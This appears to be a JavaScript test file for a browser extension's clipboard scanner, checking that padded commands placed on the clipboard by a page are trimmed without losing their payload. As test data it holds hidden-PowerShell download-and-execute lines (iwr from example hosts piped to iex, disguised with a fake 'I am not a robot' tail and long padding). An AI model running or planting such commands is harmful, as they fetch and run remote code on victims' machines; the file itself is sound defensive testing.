// The MAIN world's `clipText` (extension/content/main_world.js): what a page put on the clipboard,
// brought within the engine's 4 KB (UTF-8) so a padded command keeps its payload. The functions
// are taken from the file's source and run with the captured String methods they use there.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const src = readFileSync(path.join(ROOT, 'extension/content/main_world.js'), 'utf8');
const num = (name) => Number(src.match(new RegExp(`const ${name} = (\\d+);`))[1]);
const body = src.slice(src.indexOf('  function blank(c) {'), src.indexOf('  function reportClipboard('));
const clipText = new Function(
  'apply', 'strSlice', 'charCodeAt', 'CLIP_MAX', 'CLIP_SCAN', 'CLIP_RUN',
  `${body}; return clipText;`,
)(Reflect.apply, String.prototype.slice, String.prototype.charCodeAt, num('CLIP_MAX'), num('CLIP_SCAN'), num('CLIP_RUN'));
const bytes = (s) => Buffer.byteLength(s, 'utf8');
const PAYLOAD = '-w h -c "iwr https://pad-cdn.example/c.ps1 | iex"';

test('a short command is passed unchanged', () => {
  const cmd = 'powershell -w h -c "iwr https://x.example/a | iex"' + ' '.repeat(300) + '# I am not a robot';
  assert.equal(clipText(cmd), cmd);
});

for (const [name, pad] of [['spaces', ' '], ['ideographic spaces', '\u3000'], ['Braille blanks', '\u2800'], ['tabs and NBSP', '\t\u00a0']]) {
  test(`powershell + 5,000 ${name} + the payload: the payload is read, the padding still reads as padding`, () => {
    const out = clipText('powershell' + pad.repeat(5000) + PAYLOAD);
    assert.ok(out.endsWith(PAYLOAD), out.slice(-80));
    assert.ok(bytes(out) <= 4096, `${bytes(out)} bytes`);
    // The engine reads 80 blanks between two parts as padding: the run is cut, not removed.
    assert.ok(out.length - 'powershell'.length - PAYLOAD.length >= 100);
  });
}

test('padding of characters that are no blanks: the head and the tail are kept, within 4 KB, no half pair', () => {
  for (const filler of ['\u{E0020}', 'x', '\u00e9', '\u20ac']) {
    const out = clipText('powershell' + filler.repeat(9000) + PAYLOAD);
    assert.ok(out.startsWith('powershell') && out.endsWith(PAYLOAD), JSON.stringify(filler));
    assert.ok(bytes(out) <= 4096, `${bytes(out)} bytes`);
    assert.ok(out.isWellFormed(), 'a lone surrogate at a cut');
  }
});

test('a huge text is read from its first and last 64 K units only', () => {
  const out = clipText('powershell ' + 'a'.repeat(5_000_000) + PAYLOAD);
  assert.ok(out.startsWith('powershell ') && out.endsWith(PAYLOAD));
  assert.ok(bytes(out) <= 4096);
});

test("a page's replaced String.prototype methods change nothing (captured at start)", () => {
  const { slice, charCodeAt } = String.prototype;
  try {
    String.prototype.slice = () => 'hello';
    String.prototype.charCodeAt = () => 120;
    const out = clipText('powershell' + ' '.repeat(5000) + PAYLOAD);
    assert.ok(out.endsWith(PAYLOAD));
  } finally {
    Object.assign(String.prototype, { slice, charCodeAt });
  }
});
